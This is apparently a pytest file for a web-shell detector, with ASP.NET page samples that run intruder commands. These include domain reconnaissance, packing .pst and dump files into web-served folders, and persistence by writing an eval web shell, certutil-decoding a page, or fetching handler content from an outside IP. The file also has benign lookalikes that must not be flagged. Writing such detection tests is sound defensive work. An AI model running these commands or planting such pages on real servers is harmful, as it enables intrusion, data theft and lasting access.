"""Fixed command lines of an intruder's first and last steps: surveying the account's privileges
and the domain (EXH-WS-CODE-RECON-COMMAND), packing files into an archive the web server serves
(EXH-WS-CODE-ARCHIVE-COMMAND), and writing a page by a command (EXH-WS-CODE-PERSIST-COMMAND).
No client data reaches any of them. Kept quiet: the same programs doing an application's work
(a backup written outside the web folders, a page copied as a page, output kept as text)."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, vb_page

RECON = "EXH-WS-CODE-RECON-COMMAND"
ARCHIVE = "EXH-WS-CODE-ARCHIVE-COMMAND"
PERSIST = "EXH-WS-CODE-PERSIST-COMMAND"


def cmd(line: str) -> str:
    """A C# page that runs `cmd /c line` once, with the line as C# source text."""
    return cs_page('System.Diagnostics.Process.Start("cmd.exe", "/c ' + line + '");')


FOUND = [
    ("whoami", cmd("whoami /all"), RECON, "whoami /all"),
    ("domain-admins", cmd('net group \\"domain admins\\" /domain'), RECON, "net group"),
    ("trusts", cmd("nltest /domain_trusts"), RECON, "nltest"),
    ("domain-users", cmd("net user /domain > C:\\\\Users\\\\Public\\\\u.txt"), RECON, "net user /domain"),
    ("privileges", vb_page('Shell("cmd.exe /c whoami /priv > C:\\Windows\\Temp\\i.txt")'), RECON, "whoami /priv"),
    (
        "ad-cmdlet",
        cs_page(
            'System.Management.Automation.PowerShell.Create().AddScript("Get-ADComputer -Filter * | '
            'Select Name").Invoke();'
        ),
        RECON,
        "Get-ADComputer",
    ),
    (
        "7z-aspnet-client",
        cmd(
            "C:\\\\ProgramData\\\\7z.exe a -mx9 -pX C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\m.7z "
            "C:\\\\ProgramData\\\\*.pst"
        ),
        ARCHIVE,
        "aspnet_client",
    ),
    (
        "rar-owa",
        cmd(
            'rar.exe a -hpX \\"C:\\\\Program Files\\\\Microsoft\\\\Exchange Server\\\\V15\\\\FrontEnd'
            '\\\\HttpProxy\\\\owa\\\\auth\\\\x.rar\\" C:\\\\Windows\\\\Temp\\\\l.dmp'
        ),
        ARCHIVE,
        "HttpProxy",
    ),
    (
        "compress-archive",
        cs_page(
            'System.Diagnostics.Process.Start("powershell.exe", "-c Compress-Archive -Path C:\\\\Temp\\\\out '
            '-DestinationPath C:\\\\inetpub\\\\wwwroot\\\\o.zip");'
        ),
        ARCHIVE,
        "Compress-Archive",
    ),
    (
        "makecab",
        cmd("makecab C:\\\\Temp\\\\l.dmp C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\l.cab"),
        ARCHIVE,
        "makecab",
    ),
    (
        "echo-page",
        cmd('echo ^<%@ Page Language=\\"Jscript\\"%^>^<%eval(Request.Item[\\"z\\"],\\"unsafe\\");%^> > x.aspx'),
        PERSIST,
        "> x.aspx",
    ),
    (
        "certutil-decode",
        cmd("certutil -decode C:\\\\Temp\\\\a.txt C:\\\\inetpub\\\\wwwroot\\\\s.aspx"),
        PERSIST,
        "-decode",
    ),
    (
        "renamed-upload",
        cmd("copy C:\\\\inetpub\\\\wwwroot\\\\up\\\\a.jpg C:\\\\inetpub\\\\wwwroot\\\\up\\\\a.aspx"),
        PERSIST,
        "a.jpg",
    ),
    (
        "set-content",
        cs_page(
            'System.Diagnostics.Process.Start("powershell", "-c Set-Content -Path C:\\\\inetpub\\\\wwwroot\\\\h.ashx '
            '-Value (Invoke-WebRequest http://203.0.113.7/h).Content");'
        ),
        PERSIST,
        "h.ashx",
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "shown"), FOUND, ids=[f[0] for f in FOUND])
def test_fixed_command_found(name: str, code: str, rule_id: str, shown: str) -> None:
    assert_found(f"{name}.aspx", code, rule_id, ["runs a command" if rule_id != PERSIST else "plants", shown])


LOOKALIKES = [
    ("backup-outside", cmd("7z.exe a C:\\\\Backups\\\\site.7z C:\\\\inetpub\\\\wwwroot")),
    ("pages-copied", cmd("xcopy /s /y C:\\\\Build\\\\*.aspx C:\\\\inetpub\\\\wwwroot\\\\")),
    ("listing-as-text", cmd("dir C:\\\\inetpub\\\\wwwroot\\\\*.aspx > C:\\\\Temp\\\\pages.txt")),
    ("service-start", cs_page('System.Diagnostics.Process.Start("net.exe", "start w3svc");')),
    ("net-use", cmd("net use Z: \\\\\\\\files\\\\share")),
    # the host's own settings, as diagnostics pages show them
    ("diagnostics", cmd("ipconfig /all & systeminfo & tasklist & whoami & net user & net localgroup")),
]


@pytest.mark.parametrize(("name", "code"), LOOKALIKES, ids=[x[0] for x in LOOKALIKES])
def test_lookalike_not_reported(name: str, code: str) -> None:
    assert_benign(f"{name}.aspx", code)
